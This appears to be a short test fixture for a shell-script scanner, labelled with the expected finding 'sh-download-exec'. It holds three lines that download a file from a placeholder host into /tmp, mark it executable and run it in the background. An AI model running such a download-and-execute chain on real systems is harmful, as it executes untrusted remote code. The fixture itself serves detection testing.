# expect: sh-download-exec
curl -o /tmp/agent https://x.example/agent
chmod +x /tmp/agent
/tmp/agent &
